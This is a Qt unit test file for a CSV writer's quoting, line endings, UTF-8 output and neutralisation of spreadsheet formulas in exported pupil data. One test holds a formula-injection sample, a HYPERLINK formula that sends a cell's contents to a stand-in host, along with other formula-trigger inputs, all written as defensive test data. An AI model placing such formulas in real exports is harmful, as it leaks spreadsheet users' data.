// The one CSV writer: which fields are quoted and how, for either delimiter and
// either line end, and that text outside ASCII passes through as UTF-8.
#include "core/CsvWriter.h"

#include <QTest>

using namespace signaali;

class TestCsvWriter : public QObject
{
    Q_OBJECT

private slots:
    void quotesWhatRfc4180Asks_data()
    {
        QTest::addColumn<QString>("value");
        QTest::addColumn<QString>("comma");
        QTest::addColumn<QString>("semicolon");
        QTest::newRow("plain") << "Mäkinen"
                               << "Mäkinen"
                               << "Mäkinen";
        QTest::newRow("empty") << QString() << QString() << QString();
        QTest::newRow("comma") << "Virtanen, Aino"
                               << "\"Virtanen, Aino\""
                               << "Virtanen, Aino";
        QTest::newRow("semicolon") << "8A; 8B"
                                   << "8A; 8B"
                                   << "\"8A; 8B\"";
        QTest::newRow("quote") << "the \"quiet\" one"
                               << "\"the \"\"quiet\"\" one\""
                               << "\"the \"\"quiet\"\" one\"";
        QTest::newRow("only a quote") << "\""
                                      << "\"\"\"\""
                                      << "\"\"\"\"";
        QTest::newRow("LF") << "two\nlines"
                            << "\"two\nlines\""
                            << "\"two\nlines\"";
        QTest::newRow("CR") << "two\rlines"
                            << "\"two\rlines\""
                            << "\"two\rlines\"";
        QTest::newRow("CRLF") << "a\r\nb"
                              << "\"a\r\nb\""
                              << "\"a\r\nb\"";
        QTest::newRow("spaces kept") << "  padded "
                                     << "  padded "
                                     << "  padded ";
        QTest::newRow("non-ASCII") << "Åsa Öberg – 8Ä"
                                   << "Åsa Öberg – 8Ä"
                                   << "Åsa Öberg – 8Ä";
        QTest::newRow("non-ASCII with comma") << "Ähtäri, Åland"
                                              << "\"Ähtäri, Åland\""
                                              << "Ähtäri, Åland";
        // A formula gets a leading apostrophe (neutralisesSpreadsheetFormulas).
        QTest::newRow("formula") << "=1+1"
                                 << "'=1+1"
                                 << "'=1+1";
    }
    void quotesWhatRfc4180Asks()
    {
        QFETCH(QString, value);
        QFETCH(QString, comma);
        QFETCH(QString, semicolon);
        QCOMPARE(CsvWriter().field(value), comma);
        QCOMPARE(CsvWriter(CsvWriter::Delimiter::Semicolon).field(value), semicolon);
    }

    // A pupil imported as =HYPERLINK(...) or a class named =1+1 must not run as
    // a formula in the spreadsheet that opens the export.
    void neutralisesSpreadsheetFormulas()
    {
        const CsvWriter csv;
        QCOMPARE(csv.field(QStringLiteral("=HYPERLINK(\"http://x/?\"&A1,\"klik\")")),
                 QStringLiteral("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"klik\"\")\""));
        QCOMPARE(csv.field(QStringLiteral("=1+1")), QStringLiteral("'=1+1"));
        QCOMPARE(csv.field(QStringLiteral("+49 tel")), QStringLiteral("'+49 tel"));
        QCOMPARE(csv.field(QStringLiteral("-2+3")), QStringLiteral("'-2+3"));
        QCOMPARE(csv.field(QStringLiteral("@SUM(A1)")), QStringLiteral("'@SUM(A1)"));
        QCOMPARE(csv.field(QStringLiteral("\tcmd")), QStringLiteral("'\tcmd"));
        QCOMPARE(csv.field(QStringLiteral("\rcmd")), QStringLiteral("\"'\rcmd\""));
        // Numbers stay numbers; text that merely contains the characters is left.
        for (const char* plain : {"-1.5", "+2", "-0.25", "3e-4", "a=b", "8A", "2026-12-01"})
            QCOMPARE(csv.field(QString::fromLatin1(plain)), QString::fromLatin1(plain));
    }

    void joinsFieldsByTheDelimiter()
    {
        const QStringList fields{QStringLiteral("1"), QString(), QStringLiteral("a,b"),
                                 QStringLiteral("c;d"), QString()};
        QCOMPARE(CsvWriter().line(fields), QStringLiteral("1,,\"a,b\",c;d,"));
        QCOMPARE(CsvWriter(CsvWriter::Delimiter::Semicolon).line(fields),
                 QStringLiteral("1;;a,b;\"c;d\";"));
        QCOMPARE(CsvWriter().line({}), QString());
        QCOMPARE(CsvWriter().line({QString()}), QString());
    }

    void endsRecordsAsAsked()
    {
        const QStringList fields{QStringLiteral("x"), QStringLiteral("y")};
        QCOMPARE(CsvWriter().record(fields), QStringLiteral("x,y\r\n"));
        QCOMPARE(CsvWriter(CsvWriter::Delimiter::Comma, CsvWriter::LineEnd::Lf).record(fields),
                 QStringLiteral("x,y\n"));
        QCOMPARE(CsvWriter(CsvWriter::Delimiter::Semicolon, CsvWriter::LineEnd::CrLf).delimiter(),
                 QChar(u';'));
    }

    void writesADocumentInUtf8()
    {
        const QByteArray csv = CsvWriter().document(
            {{QStringLiteral("name"), QStringLiteral("note")},
             {QStringLiteral("Jääskeläinen"), QStringLiteral("says \"hi\",\r\nthen leaves")},
             {QString(), QString()}});
        QCOMPARE(csv, QByteArray("name,note\r\n"
                                 "Jääskeläinen,\"says \"\"hi\"\",\r\nthen "
                                 "leaves\"\r\n"
                                 ",\r\n"));
        QCOMPARE(CsvWriter().document({}), QByteArray());
    }
};

QTEST_GUILESS_MAIN(TestCsvWriter)
#include "tst_csvwriter.moc"
